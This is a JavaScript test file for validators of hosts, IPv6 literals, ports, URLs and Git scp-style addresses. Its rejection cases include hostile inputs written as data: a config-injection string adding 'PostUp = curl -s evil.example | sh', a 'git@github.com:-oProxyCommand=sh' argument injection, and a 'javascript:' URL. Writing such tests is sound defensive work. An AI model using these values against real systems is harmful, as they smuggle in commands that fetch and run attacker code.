import { test } from "node:test";
import assert from "node:assert/strict";
import { hostKind, isIpv6, parseHostPort, scpGitUrl, urlError, withPort } from "./host.js";

test("IPv6 literals: RFC 4291 forms accepted, anything else refused", () => {
  for (const ok of ["::", "::1", "2001:db8::1", "fe80::1:2:3:4", "1:2:3:4:5:6:7:8", "::ffff:192.0.2.1", "64:ff9b::192.0.2.33", "1::"]) assert.ok(isIpv6(ok), ok);
  for (const bad of ["", ":", "1:2:3:4:5:6:7:8:9", "1::2::3", "12345::1", "fe80::1%eth0", "::1\n", "[::1]", "1:2:3:4:5:6:7::8:9", "::ffff:999.0.0.1", "g::1", "1.2.3.4"]) assert.ok(!isIpv6(bad), bad);
});

test("hosts and endpoints: addresses, names, ports; line breaks, spaces and sections refused", () => {
  assert.equal(hostKind("203.0.113.40"), "ipv4");
  assert.equal(hostKind("home.example.net"), "dns");
  assert.equal(hostKind("2001:db8::7"), "ipv6");
  for (const bad of ["", "a b", "1.2.3.999", "a..b", "-a.example", "a_b.example", "evil\n[Interface]", "x=y", "x#y", "203.0.113.40:51820\n[Interface]\nPostUp = curl -s evil.example | sh", "a\u2028b"]) assert.equal(hostKind(bad), undefined, bad);
  assert.deepEqual(parseHostPort("home.example.net:51820"), { host: "home.example.net", kind: "dns", port: 51820 });
  assert.deepEqual(parseHostPort("[2001:db8::7]:51820"), { host: "2001:db8::7", kind: "ipv6", port: 51820 });
  assert.deepEqual(parseHostPort("2001:db8::7"), { host: "2001:db8::7", kind: "ipv6", port: undefined });
  for (const bad of ["a b", "h:0", "h:65536", "h:", "h:1x", "[::1", "[::1]x", "[nope]:1", "1.2.3.4:5:6", "a b:3260"]) assert.ok("error" in parseHostPort(bad), bad);
  assert.equal(withPort("2001:db8::7", 51820), "[2001:db8::7]:51820");
  assert.equal(withPort("198.51.100.7", 51820), "198.51.100.7:51820");
  assert.equal(withPort("198.51.100.7:443", 51820), "198.51.100.7:443");
});

test("URLs: scheme, printable text and a real host", () => {
  assert.equal(urlError("https://s3.example.com", ["http", "https"]), undefined);
  assert.equal(urlError("http://192.168.1.10:9000/bucket", ["http", "https"]), undefined);
  assert.equal(urlError("ssh://git@github.com/you/lab.git", ["https", "ssh"]), undefined);
  for (const bad of ["javascript:alert(1)", "ftp://x", "https://a b", "https://x\n", "https://", "https://x:99999", "git@github.com:you/lab.git", "https://a..b/"]) assert.ok(urlError(bad, ["http", "https", "ssh"]), bad);
});

test("Git's scp form: user@host:path with a plain user, a real host and URL-safe path; anything else refused", () => {
  assert.deepEqual(scpGitUrl("git@github.com:you/lab.git"), { user: "git", host: "github.com", path: "you/lab.git" });
  assert.deepEqual(scpGitUrl("git@192.168.1.10:/srv/git/lab.git"), { user: "git", host: "192.168.1.10", path: "/srv/git/lab.git" });
  for (const bad of ["github.com:you/lab.git", "git@github.com:-oProxyCommand=sh", "-x@github.com:lab", "git@github.com:you/lab.git\n", "git@git hub.com:lab", "git@github.com:a b", "git@github.com:lab\u2028x", "a@b@c:d", "git@github.com:", "https://github.com/you/lab.git"]) {
    assert.equal(scpGitUrl(bad), undefined, JSON.stringify(bad));
  }
});
